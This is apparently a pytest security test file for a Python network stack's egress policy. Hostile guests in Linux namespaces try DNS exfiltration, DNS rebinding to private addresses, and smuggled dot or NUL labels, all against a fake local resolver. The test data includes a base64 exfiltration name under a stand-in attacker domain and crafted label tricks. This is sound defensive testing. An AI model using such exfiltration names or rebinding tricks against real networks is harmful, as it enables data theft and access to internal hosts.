"""Attacks on the egress policy by a hostile guest (issue 24), through real guests in namespaces.

Each guest is a real Linux process behind ``aioslirp.spawn`` (its own network namespace, the
kernel's TCP/IP, ``dig`` for DNS); the stack's upstream resolver is a fake DNS server on
127.0.0.1 of the test namespace (an ephemeral port), which notes every question it gets, so
"never reached the upstream" is what the upstream saw. Nothing leaves the test namespace.

* a Python policy hook (sync or async) is asked about names no rule decides: a name it denies
  gets NXDOMAIN with an Extended DNS Error and never reaches the upstream; one it allows does,
  and the audit log says the hook's verdict;
* DNS rebinding: an allowed name whose upstream answer is a private / shared / ULA address does
  not open it under default deny, unless a CIDR allow rule covers it.
"""

from __future__ import annotations

import asyncio
import contextlib
import io
import json
import os
import socket
import sys
import textwrap
import threading

import dpkt
import pytest

import aioslirp
from aioslirp import NetworkConfig, Stack
from support.prereqs import need
from support.guests import need_tool

pytestmark = pytest.mark.netns

need(os.path.exists("/dev/net/tun"), "/dev/net/tun is missing (load the tun module)")

PIPE = asyncio.subprocess.PIPE
SECRET = "c2VjcmV0.attacker.example"  # base64 of "secret": a name that carries data out


class Upstream:
    """UDP DNS on 127.0.0.1:<ephemeral>: every A question gets ``answers[name]`` (an address,
    TTL 300) or, for a name not in it, 192.0.2.99; notes each question (lower case) in ``asked``."""

    def __init__(self, answers: dict | None = None) -> None:
        self.answers = answers or {}
        self.asked: list[str] = []
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        threading.Thread(target=self._run, daemon=True).start()

    def _run(self) -> None:
        while True:
            try:
                data, peer = self.sock.recvfrom(4096)
            except OSError:
                return
            if not data:
                return
            try:
                q = dpkt.dns.DNS(data)
                name = q.qd[0].name.lower().rstrip(".")
            except Exception:
                continue
            self.asked.append(name)
            r = dpkt.dns.DNS(id=q.id, qr=dpkt.dns.DNS_R, rd=q.rd, ra=1, qd=q.qd)
            if q.qd[0].type == dpkt.dns.DNS_A:
                addr = self.answers.get(name, "192.0.2.99")
                r.an = [dpkt.dns.DNS.RR(name=q.qd[0].name, type=1, cls=1, ttl=300, ip=socket.inet_aton(addr))]
            self.sock.sendto(bytes(r), peer)

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.shutdown(socket.SHUT_RDWR)
        self.sock.close()


@pytest.fixture
def upstream():
    u = Upstream()
    yield u
    u.close()


async def guest_run(stack: Stack, argv: list[str], timeout: float = 60) -> str:
    """Run ``argv`` as a guest of ``stack`` (its own namespaces); its stdout (it must exit 0)."""
    async with aioslirp.spawn(argv, stack=stack, stdout=PIPE, stderr=PIPE) as g:
        out, err = await asyncio.wait_for(g.communicate(), timeout)
    assert g.returncode == 0, (g.returncode, err.decode(errors="replace")[-2000:])
    return out.decode()


def dig(*names: str) -> list[str]:
    """A guest shell running ``dig`` for each name (EDNS on, as dig sends by default)."""
    return ["sh", "-c", "; ".join(f"dig +tries=1 +time=4 A {n}" for n in names)]


def audit_records(buf: io.StringIO) -> list[dict]:
    return [json.loads(line) for line in buf.getvalue().splitlines()]


# ============================================================================ 1. the hook and names


@pytest.mark.parametrize("kind", ["sync", "async"])
async def test_a_hook_denying_every_name_leaves_name_denial_on(kind, upstream):
    """Issue 24 (1): default deny, ``pypi.org:443`` allowed and a hook that denies everything:
    the guest's query for an exfiltration name gets NXDOMAIN + EDE 15 (Blocked) naming the hook,
    the upstream never sees it; the hook was asked about the name (a ``dns`` request); the audit
    log says deny by the hook. Before the fix the query went upstream and was answered."""
    need_tool("dig", "bind9-dnsutils")
    asked = []

    def sync_hook(req):
        asked.append((req.proto, req.name, req.dst, req.port))
        return False, "nothing leaves"

    async def async_hook(req):
        await asyncio.sleep(0.01)
        return sync_hook(req)

    audit = io.StringIO()
    cfg = NetworkConfig(egress_default="deny", egress_allow=["pypi.org:443"],
                        dns_upstreams=[f"127.0.0.1:{upstream.port}"], audit_log=audit)
    stack = Stack(cfg, policy=sync_hook if kind == "sync" else async_hook)
    try:
        out = await guest_run(stack, dig(SECRET))
    finally:
        await stack.aclose()
    assert "status: NXDOMAIN" in out and "EDE: 15 (Blocked): (policy hook: nothing leaves)" in out, out
    assert upstream.asked == []
    assert asked and asked[0] == ("dns", SECRET.lower(), "10.0.2.3", 53)
    assert len(asked) == 1  # the verdict is cached for the name (dig asked once; no retry reached the hook)
    assert stack.counters["egress.dns_blocked"] == 1
    dns = [r for r in audit_records(audit) if r["event"] == "dns"]
    assert [(r["name"], r["verdict"], r["rule"], r["answer"]) for r in dns] == [
        (SECRET.lower(), "deny", "policy hook: nothing leaves", "blocked")]


@pytest.mark.parametrize("kind", ["sync", "async"])
async def test_a_hook_allowing_a_name_lets_it_reach_the_upstream(kind, upstream):
    """The same stack with a hook that allows one name and denies another: the allowed one is
    forwarded and answered (audit: allow, the hook's rule), the other never leaves."""
    need_tool("dig", "bind9-dnsutils")

    def verdict(req):
        return req.name == "ok.attacker.example", "only ok"

    async def async_hook(req):
        return verdict(req)

    audit = io.StringIO()
    cfg = NetworkConfig(egress_default="deny", egress_allow=["pypi.org:443"],
                        dns_upstreams=[f"127.0.0.1:{upstream.port}"], audit_log=audit)
    stack = Stack(cfg, policy=verdict if kind == "sync" else async_hook)
    try:
        out = await guest_run(stack, dig("ok.attacker.example", SECRET))
    finally:
        await stack.aclose()
    first, second = out.split("<<>> DiG")[1:3]
    assert "status: NOERROR" in first and "192.0.2.99" in first, first
    assert "status: NXDOMAIN" in second and "EDE: 15 (Blocked): (policy hook: only ok)" in second, second
    assert upstream.asked == ["ok.attacker.example"]
    dns = [(r["name"], r["verdict"], r["rule"], r["answer"]) for r in audit_records(audit) if r["event"] == "dns"]
    assert dns == [("ok.attacker.example", "allow", "policy hook: only ok", "answered"),
                   (SECRET.lower(), "deny", "policy hook: only ok", "blocked")]


# ============================================================================ 4. rebinding to the host's networks


REBIND = {"ten.rebind.test": "10.1.2.3", "docker.rebind.test": "172.17.0.1", "lan.rebind.test": "192.168.1.1",
          "cgn.rebind.test": "100.64.0.1"}

GUEST_CONNECT = r'''
import errno, json, socket, sys
names, port = json.loads(sys.argv[1]), int(sys.argv[2])
out = {}
for name in names:
    try:
        addr = socket.getaddrinfo(name, port, socket.AF_INET, socket.SOCK_STREAM)[0][4]
    except socket.gaierror as exc:
        out[name] = "gaierror %s" % exc
        continue
    s = socket.socket()
    s.settimeout(5)
    try:
        s.connect(addr)
        s.sendall(b"hi")
        out[name] = [addr[0], s.recv(16).decode()]
    except OSError as exc:
        out[name] = [addr[0], errno.errorcode.get(exc.errno, str(exc))]
    finally:
        s.close()
print(json.dumps(out))
'''


@pytest.fixture
def rebind_world():
    """The four non-global addresses on the test namespace's loopback, one TCP server on all of
    them (it answers ``OK`` to each connection), and an upstream resolving :data:`REBIND`."""
    from support.namespaces import namespace_address

    with contextlib.ExitStack() as es:
        for addr in REBIND.values():
            es.enter_context(namespace_address(addr))
        srv = socket.socket()
        srv.bind(("0.0.0.0", 0))
        srv.listen(16)
        es.callback(srv.close)
        es.callback(lambda: srv.shutdown(socket.SHUT_RDWR))
        reached: list[str] = []

        def serve():
            while True:
                try:
                    c, _ = srv.accept()
                except OSError:
                    return
                with c:
                    reached.append(c.getsockname()[0])
                    c.recv(16)
                    c.sendall(b"OK")

        threading.Thread(target=serve, daemon=True).start()
        up = Upstream(REBIND)
        es.callback(up.close)
        yield {"port": srv.getsockname()[1], "up": up, "reached": reached}


async def test_an_allowed_name_rebound_to_private_addresses_opens_none_of_them(rebind_world):
    """Issue 24 (4): under default deny, ``*.rebind.test:PORT`` allowed, the upstream answers the
    names with 10.1.2.3, 172.17.0.1 (a Docker host's bridge), 192.168.1.1 and 100.64.0.1, each an
    address of the test namespace with a server listening: the guest resolves each name (the
    answer passes, unchanged) but its connect is refused at once (EHOSTUNREACH: ICMP
    administratively prohibited) and the server never sees it; each refused binding is counted.
    Before the fix all four connected."""
    port = rebind_world["port"]
    cfg = NetworkConfig(egress_default="deny", egress_allow=[f"*.rebind.test:{port}"],
                        dns_upstreams=[f"127.0.0.1:{rebind_world['up'].port}"])
    stack = Stack(cfg)
    try:
        out = json.loads(await guest_run(stack, [sys.executable, "-c", GUEST_CONNECT, json.dumps(list(REBIND)),
                                                 str(port)]))
    finally:
        await stack.aclose()
    assert out == {name: [addr, "EHOSTUNREACH"] for name, addr in REBIND.items()}, out
    assert rebind_world["reached"] == []
    assert stack.counters["egress.dns_bindings_refused"] >= 4
    assert stack.counters["egress.denied_default"] >= 4


async def test_a_cidr_rule_covering_a_private_range_lets_its_answers_bind(rebind_world):
    """The same with a CIDR allow rule covering 10.0.0.0/8 for another port and protocol only
    (9/udp): the answer for ten.rebind.test binds, so the name rule opens 10.1.2.3:PORT (the flow
    carries the name); the other three stay refused."""
    port = rebind_world["port"]
    audit = io.StringIO()
    cfg = NetworkConfig(egress_default="deny", egress_allow=[f"*.rebind.test:{port}", "10.0.0.0/8:9/udp"],
                        dns_upstreams=[f"127.0.0.1:{rebind_world['up'].port}"], audit_log=audit)
    stack = Stack(cfg)
    try:
        out = json.loads(await guest_run(stack, [sys.executable, "-c", GUEST_CONNECT, json.dumps(list(REBIND)),
                                                 str(port)]))
    finally:
        await stack.aclose()
    assert out.pop("ten.rebind.test") == ["10.1.2.3", "OK"]
    assert out == {name: [REBIND[name], "EHOSTUNREACH"] for name in out}, out
    assert rebind_world["reached"] == ["10.1.2.3"]
    flows = [r for r in audit_records(audit) if r["event"] == "flow" and r["proto"] == "tcp"]
    assert [(r["dst"], r["name"], r["rule"]) for r in flows] == [("10.1.2.3", "ten.rebind.test",
                                                                  f"*.rebind.test:{port}")]


# ============================================================================ names read two ways


async def test_a_label_with_a_dot_or_a_nul_never_reaches_the_upstream(upstream):
    """``dig 'secret\\.pypi.org'`` sends the labels ``secret.pypi`` and ``org``: read as text,
    ``secret.pypi.org``, under the allowed ``*.pypi.org``; resolved, a name under ``org``. Such
    names (and a NUL inside a label, which a resolver keeping C strings would cut) are refused:
    NXDOMAIN + EDE 15, the upstream never asked; ``ok.pypi.org`` still goes."""
    need_tool("dig", "bind9-dnsutils")
    cfg = NetworkConfig(egress_default="deny", egress_allow=["*.pypi.org:443"],
                        dns_upstreams=[f"127.0.0.1:{upstream.port}"])
    stack = Stack(cfg)
    try:
        out = await guest_run(stack, dig("'secret\\.pypi.org'", "'a\\000b.pypi.org'", "ok.pypi.org"))
    finally:
        await stack.aclose()
    first, second, third = out.split("<<>> DiG")[1:4]
    for text in (first, second):
        assert "status: NXDOMAIN" in text and "EDE: 15 (Blocked): (odd name" in text, text
    assert "status: NOERROR" in third
    assert upstream.asked == ["ok.pypi.org"]
